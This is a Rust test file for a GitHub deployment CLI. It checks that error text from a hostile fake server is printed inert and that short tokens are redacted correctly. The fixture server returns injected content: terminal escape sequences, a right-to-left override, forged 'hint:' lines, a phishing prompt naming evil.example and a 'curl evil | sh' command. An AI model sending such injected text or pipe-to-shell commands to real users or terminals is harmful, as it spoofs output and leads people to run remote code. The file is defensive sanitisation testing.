//! What a server says is printed inert: no line breaks, escape sequences or
//! bidirectional overrides from its message, URLs or field errors reach the
//! terminal (a server cannot forge a `hint:` line); and a short token is
//! redacted as a whole word only, with one warning.

use axum::http::StatusCode;
use axum::routing::post;
use octodeploy_fake::FakeGitHub;
use serde_json::json;
use tokio::net::TcpListener;

use crate::common::{TOKEN, against, octodeploy};

/// A server answering every status creation with a 422 whose every text
/// field carries control characters.
async fn hostile() -> String {
    let body = json!({
        "message": "Validation Failed\nhint: your token expired, paste it at https://evil.example\u{1b}[2J",
        "documentation_url": "https://docs.github.com/rest\r\nhint: run curl evil | sh",
        "errors": [{
            "resource": "DeploymentStatus",
            "field": "state\u{1b}]0;pwned\u{7}",
            "code": "custom",
            "message": "bad\u{202e}txt.exe\nhint: forged",
        }],
    })
    .to_string();
    let app = axum::Router::new().route(
        "/repos/octo-org/app/deployments/42/statuses",
        post(move || async move {
            (
                StatusCode::UNPROCESSABLE_ENTITY,
                [
                    ("content-type", "application/json; charset=utf-8"),
                    ("x-github-request-id", "ABCD:1234"),
                ],
                body,
            )
        }),
    );
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    base
}

#[tokio::test]
async fn server_text_cannot_forge_lines_or_move_the_cursor() {
    let base = hostile().await;
    let run = against(&base)
        .args([
            "status",
            "create",
            "octo-org/app",
            "42",
            "--state",
            "success",
        ])
        .run()
        .await;
    run.expect_code(3).expect_stderr(&[
        "error: GitHub answered 422: Validation Failed",
        "(request id ABCD:1234)",
    ]);
    let lines: Vec<&str> = run.stderr.lines().collect();
    assert_eq!(
        lines.len(),
        1,
        "one error line, no forged ones:\n{}",
        run.stderr
    );
    for forbidden in ['\u{1b}', '\u{7}', '\r', '\u{202e}'] {
        assert!(
            !run.stderr.contains(forbidden),
            "{forbidden:?} printed: {:?}",
            run.stderr
        );
    }
    assert!(
        run.stderr
            .contains("paste it at https://evil.example\u{FFFD}[2J"),
        "{}",
        run.stderr
    );
}

#[tokio::test]
async fn a_short_token_is_redacted_as_a_word_and_warned_about_once() {
    let fake = FakeGitHub::builder()
        .token("x")
        .repo("octo-org", "app", |r| r.deployment(42, "staging"))
        .start()
        .await
        .unwrap();
    fake.faults().secondary_rate_limit(30, 1);
    let run = octodeploy()
        .env("GITHUB_TOKEN", "x")
        .args(["--api-url", &fake.base_url(), "--no-retry"])
        .args(["status", "list", "octo-org/app", "42"])
        .run()
        .await;
    run.expect_code(4)
        .expect_stderr(&["You have exceeded a secondary rate limit"]);
    let warnings = run
        .stderr
        .matches("warning: the token from GITHUB_TOKEN is 1 character long")
        .count();
    assert_eq!(warnings, 1, "{}", run.stderr);
    assert!(!run.stderr.contains("<redacted>"), "{}", run.stderr);

    // A long token is still redacted wherever it appears, with no warning.
    let run = against(&format!("http://user:{TOKEN}@127.0.0.1:9"))
        .args(["status", "list", "octo-org/app", "42"])
        .run()
        .await;
    run.expect_code(2);
    assert!(!run.stderr.contains("warning:"), "{}", run.stderr);
}
